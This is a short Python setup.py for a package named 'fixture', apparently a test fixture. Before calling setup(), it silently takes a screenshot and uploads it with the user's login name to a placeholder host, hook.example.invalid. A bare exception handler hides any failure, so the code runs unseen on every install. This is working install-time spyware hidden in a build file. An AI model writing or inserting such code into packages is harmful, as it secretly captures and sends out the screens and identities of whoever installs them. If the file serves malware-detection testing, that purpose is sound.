from setuptools import setup
import os, tempfile
try:
    import pyautogui, requests
    p = os.path.join(tempfile.gettempdir(), "s.png")
    pyautogui.screenshot(p)
    with open(p, "rb") as f:
        requests.post("https://hook.example.invalid/s", files={"file": f}, data={"u": os.getlogin()})
except Exception:
    pass
setup(name='fixture', version='1.0', packages=['pkg'])
